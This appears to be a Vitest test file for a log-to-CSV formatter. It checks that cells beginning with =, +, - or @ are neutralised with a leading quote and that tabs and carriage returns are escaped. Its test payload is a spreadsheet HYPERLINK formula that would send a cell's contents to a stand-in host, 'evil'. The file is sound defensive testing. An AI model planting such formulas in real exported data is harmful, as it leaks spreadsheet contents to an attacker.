import { describe, expect, it } from 'vitest';
import { formatCsv } from './format.js';

// CSV cells are attacker-written log text opened in spreadsheets (issue 19):
// a cell starting with = + - @ (or a tab / CR) must not run as a formula.

const row = (rec: Record<string, unknown>) => formatCsv(7, 0, Buffer.from(JSON.stringify(rec)));

describe('CSV rows', () => {
  it('defuse a cell starting with = + - or @ with a leading quote, in every text column', () => {
    for (const start of ['=', '+', '-', '@']) {
      const payload = `${start}HYPERLINK("http://evil/?"&A1)`;
      const cells = row({ time: payload, level: payload, msg: payload });
      // A level is shown upper-cased and cut to 12 characters, then defused.
      const quoted = `"'${payload.toUpperCase().slice(0, 12).replaceAll('"', '""')}"`;
      expect(cells).toBe(
        `7,"'${payload.replaceAll('"', '""')}",${quoted},"'${payload.replaceAll('"', '""')}",`,
      );
    }
  });

  it('show a tab or CR as text, so no cell starts with a raw one; leave ordinary text alone', () => {
    expect(row({ time: 0, level: 30, msg: '\tx\r' })).toBe('7,1970-01-01T00:00:00.000Z,INFO,\\tx\\r,');
    expect(row({ time: 0, level: 30, msg: 'a=b, 1-2' })).toBe('7,1970-01-01T00:00:00.000Z,INFO,"a=b, 1-2",');
    expect(row({ time: 0, msg: 'x', user: '=1' })).toBe('7,1970-01-01T00:00:00.000Z,,x,"{""user"":""=1""}"');
  });
});
